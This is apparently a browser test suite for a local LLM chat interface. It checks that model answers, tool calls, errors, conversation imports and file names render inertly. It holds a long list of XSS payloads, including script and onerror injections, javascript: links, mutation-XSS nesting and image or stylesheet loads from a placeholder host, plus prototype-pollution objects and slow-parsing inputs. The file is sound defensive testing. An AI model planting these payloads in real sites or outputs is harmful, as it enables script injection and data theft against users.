// What a model says does nothing but stand there: visit() finds each request, dialog, window, error and report that it causes.
import assert from 'node:assert/strict';
import {test} from 'node:test';
import {Fake} from './fake.js';
import {is, processor, visit} from './visit.js';

const elsewhere = 'http://elsewhere.invalid';
const payloads = [
	'<script>alert(1)</script>',
	'<script src="http://elsewhere.invalid/a.js"></script>',
	'<img src=x onerror=alert(1)>',
	'<img src="http://elsewhere.invalid/a.png">',
	'![picture](http://elsewhere.invalid/a.png?secret)',
	'![picture](//elsewhere.invalid/a.png)',
	'![a"onerror="alert(1)](data:image/png;base64,AAAA"onerror="alert(1))',
	'![svg](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>)',
	'[link](javascript:alert(1))',
	'[link](JaVaScRiPt:alert(1))',
	'[link](java&#x0A;script:alert(1))',
	'[link](&#106;avascript:alert(1))',
	'[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[link](vbscript:msgbox(1))',
	'[link](blob:http://elsewhere.invalid/1)',
	'[link](/v1/models)',
	'[link](http://elsewhere.invalid/ "title"onmouseover="alert(1)")',
	'<javascript:alert(1)>',
	'[a]: javascript:alert(1)\n\n[link][a]',
	'<a href="javascript:alert(1)" ping="http://elsewhere.invalid/">link</a>',
	'<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
	'<svg><style><img src=x onerror=alert(1)></style></svg>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<style>@import "http://elsewhere.invalid/a.css"; body { display: none }</style>',
	'<p style="background: url(http://elsewhere.invalid/a.png)">text</p>',
	'<link rel="stylesheet" href="http://elsewhere.invalid/a.css"><link rel="dns-prefetch" href="http://elsewhere.invalid/">',
	'<meta http-equiv="refresh" content="0; url=http://elsewhere.invalid/">',
	'<base href="http://elsewhere.invalid/">',
	'<form action="http://elsewhere.invalid/"><input name=q><button>send</button></form><button form=ask>send</button>',
	'<iframe src="http://elsewhere.invalid/"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
	'<object data="http://elsewhere.invalid/"></object><embed src="http://elsewhere.invalid/"><video src="http://elsewhere.invalid/a" autoplay></video>',
	'<details open ontoggle=alert(1)><summary>x</summary></details>',
	'<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea>',
	'<img name=body><form id=box><input name=attributes></form><a id=page></a>',
	'<br onclick=alert(1)><sub onmouseover=alert(1)>x</sub>',
	'${alert(1)} {{constructor.constructor("alert(1)")()}} <%= alert(1) %> #{alert(1)}',
	'```"onmouseover="alert(1)\ncode</code></pre><img src=x onerror=alert(1)>\n```',
	'```html\n<script>alert(1)</script>\n```',
	'`</code><img src=x onerror=alert(1)>`',
	'| a |\n|---|\n| <img src=x onerror=alert(1)> |',
	'# <img src=x onerror=alert(1)>',
	'&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
	'\u202Egnp.exe \u0000 \uFFFD <scr\u0000ipt>alert(1)</script>',
	']]></title></textarea></style></script><img src=x onerror=alert(1)>',
];

// inert asserts that of all that could act nothing is in the page; hrefs lead to the web alone.
async function inert(v) {
	const found = await v.page.evaluate(() => {
		const bad = [];
		for (const e of document.querySelectorAll('#room *, #side *')) {
			for (const {name, value} of e.attributes) if (/^on|^srcdoc$|^ping$|^formaction$/.test(name)) bad.push(`${e.tagName} ${name}=${value}`);
		}
		for (const e of document.querySelectorAll('.prose *, #list *, #title *')) {
			if (/^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|LINK|META|BASE|FORM|VIDEO|AUDIO|MATH|ANIMATE)$/i.test(e.tagName)) bad.push(e.outerHTML);
			if (e.matches('.prose *') && (e.id || e.hasAttribute('name') || e.hasAttribute('style'))) bad.push(e.outerHTML);
		}
		for (const a of document.querySelectorAll('.prose a[href]')) {
			if (!/^(https?|mailto):/.test(a.href) || new URL(a.href).origin === location.origin) bad.push(a.outerHTML);
			if (a.target !== '_blank' || !/noopener/.test(a.rel)) bad.push(a.outerHTML);
		}
		for (const i of document.querySelectorAll('img')) if (i.hasAttribute('src') && !/^data:image\//.test(i.src)) bad.push(i.outerHTML);
		return bad;
	});
	assert.deepEqual(found, []);
}

const touch = v => v.page.evaluate(() => { // what hovers, is focused, or is clicked
	for (const e of document.querySelectorAll('.prose *')) {
		for (const kind of ['mouseover', 'mousemove', 'focus', 'pointerdown']) e.dispatchEvent(new Event(kind, {bubbles: true}));
		if (e.matches('a:not([href^=http])')) e.click();
	}
});

test('payloads in the answer, at once and in pieces', async t => {
	const all = payloads.join('\n\n');
	const v = await visit(t, new Fake(r => r.delta({content: all}).end(), r => {
		for (const c of all.match(/[^]{1,3}/g)) r.delta({content: c});
		r.end();
	}, ...payloads.map(p => r => r.delta({content: p}).end())));
	await v.say('Attack');
	await v.ended();
	await inert(v);
	await touch(v);
	assert.match(await v.answers.locator('.said').textContent(), /<script>alert\(1\)<\/script>/, 'HTML is shown as text');
	await v.button('Try again').click();
	await v.see('.versions', '2/2');
	await v.ended();
	await inert(v);
	await touch(v);
	for (const n of payloads.keys()) { // each alone: none hides behind the one before it
		await v.page.evaluate(() => page.retry(tree.line(page.open).at(-1)));
		await v.see('.versions', `${n + 3}/${n + 3}`);
		await v.ended();
		await inert(v);
		await touch(v);
	}
	await v.reload();
	await v.see('.versions', `${payloads.length + 2}/${payloads.length + 2}`);
	await inert(v);
});

test('payloads behind the parser: DOMPurify alone holds them, too', async t => {
	// Chromium reports what it does not run even in a document that runs nothing, which is what DOMPurify parses in.
	const v = await visit(t, new Fake(), {faults: [/Content Security Policy|^policy: (script-src-attr|base-uri|style-src)/,
		/"effective-directive":"(script-src-attr|base-uri|style-src)/]});
	const left = await v.page.evaluate(payloads => {
		marked.use({renderer: {html: ({text}) => text, image: ({href}) => `<img src="${href}" onerror="alert(1)">`}});
		const box = document.createElement('div');
		box.className = 'prose';
		document.querySelector('#turns').append(box);
		for (const p of payloads) box.append(prose.fragment(marked.lexer(p)));
		return box.querySelectorAll('*').length;
	}, payloads);
	assert.ok(left > 30);
	await inert(v);
	await touch(v);
	await is(() => v.fake.reports.length > 0, true);
});

test('payloads in thoughts, names and arguments of tools, and results', async t => {
	const v = await visit(t, new Fake(r => {
		r.thought(payloads.join('\n\n'));
		payloads.forEach((p, i) => i < 40 && r.call(i, p, p));
		r.call(40, 'calculator', JSON.stringify({expression: payloads[0]})).call(41, '__proto__', '{"__proto__": {"x": 1}}').end('tool_calls');
	}, r => r.text('Done.').end()));
	await v.button('Tools').click();
	await v.say('Attack');
	await v.see('.said', 'Done.');
	await v.ended();
	await v.page.evaluate(() => { for (const d of document.querySelectorAll('details')) d.open = true; });
	await v.see('.thought .prose', 'alert(1)');
	await inert(v);
	await touch(v);
	await is(() => v.page.locator('details.call').count(), 42);
	await is(() => v.page.locator('details.call summary').first().textContent(), 'Called ' + payloads[0]);
	await is(() => v.page.evaluate(() => ({}).x), undefined);
});

test('payloads in errors, in models, and in what is no answer', async t => {
	const v = await visit(t, new Fake(...payloads.slice(0, 3).map(p => r => r.refuse(400, p)),
		...payloads.slice(0, 3).map(p => r => r.raw(`data: ${JSON.stringify({error: {message: p}})}\n\n`).response.end()),
		r => r.raw('data: {"choices": [{"delta": {"content": {"toString": 1}, "reasoning_content": ["x"], "tool_calls": [{"index": 4294967295, "function": {"name": {}}}]}}]}\n\n')
			.raw('data: null\n\ndata: 7\n\ndata: {"choices": {}, "usage": {"prompt_tokens": "many"}, "timings": 3, "prompt_progress": []}\n\n').end()),
	{faults: [/400/], models: (_, response) => Fake.json(response, {data: [{id: payloads[2], max_model_len: '<b>'}]})});
	await v.see('#model', 'onerror');
	await v.say('Attack');
	for (let n = 2; n <= 6; n++) {
		await v.page.locator('.turn .fault button').waitFor();
		await is(() => v.page.locator('.turn .fault span').textContent(), payloads[(n - 2) % 3]);
		await v.button('Try again', v.page.locator('.turn .fault')).click();
		await v.see('.versions', `${n}/${n}`);
		await v.ended();
		await inert(v);
	}
	await v.button('Try again', v.page.locator('.turn .fault')).click();
	await v.see('.versions', '7/7');
	await v.ended();
	await inert(v);
});

test('payloads in what the user says, in titles, in searches, and in files', async t => {
	const v = await visit(t);
	for (const p of payloads.slice(0, 3)) {
		await v.say(p);
		await v.ended();
		await v.button('New chat').click();
	}
	const conversations = payloads.map((p, i) => ({
		id: `c${i}`, title: p, created: 1, updated: 1, system: p, schema: p, think: true, onclick: p, ['__proto__']: {polluted: p},
		messages: [{id: '__proto__', parent: '', role: 'user', created: 1, content: p},
			{id: 'constructor', parent: '__proto__', role: 'assistant', created: 1, content: p, thought: p, fault: p, finish: p,
				calls: [{id: p, name: p, arguments: p}], usage: {prompt_tokens: p, x: 1}, timings: {predicted_n: p}, innerHTML: p},
			{id: 'd', parent: 'constructor', role: 'tool', created: 1, content: p, call: p, name: p}],
	}));
	const chooser = v.page.waitForEvent('filechooser');
	await v.button('Import conversations').click();
	await (await chooser).setFiles({name: '<img src=x onerror=alert(1)>.json', mimeType: 'application/json',
		buffer: Buffer.from(JSON.stringify({format: 'gemma4-conversations', version: 1, conversations}))});
	await v.see('.note', `Imported ${payloads.length} conversations`);
	for (const i of payloads.keys()) {
		await v.page.evaluate(i => { location.hash = `c${i}`; }, i);
		await v.page.locator(`#list .current a[href="#c${i}"]`).waitFor();
		await inert(v);
	}
	await v.page.getByRole('searchbox').fill('<img');
	await v.see('#list .found, #list .title', '<img');
	await inert(v);
	await v.button('Settings').click();
	await inert(v);
	await is(() => v.page.evaluate(() => ({}).polluted), undefined);
});

test('what would take a parser forever takes no time', async t => {
	const v = await visit(t, new Fake(r => r.text('Ready.').end()));
	const seconds = await processor(v);
	for (const text of ['>'.repeat(5000), '['.repeat(5000), '*a '.repeat(5000), '`'.repeat(5000), '- '.repeat(2000), '|'.repeat(5000) + '\n|-|',
		'<'.repeat(5000), '![['.repeat(2000), '_*'.repeat(5000), '&'.repeat(5000), '\n'.repeat(20000), 'a@'.repeat(5000), '<!--'.repeat(3000)]) {
		const before = await seconds();
		await v.page.evaluate(text => { new Prose(document.createElement('div')).show(text, true); }, text);
		const took = await seconds() - before;
		assert.ok(took < 2, `${text.slice(0, 6)}…: ${took} s of processor`);
	}
});
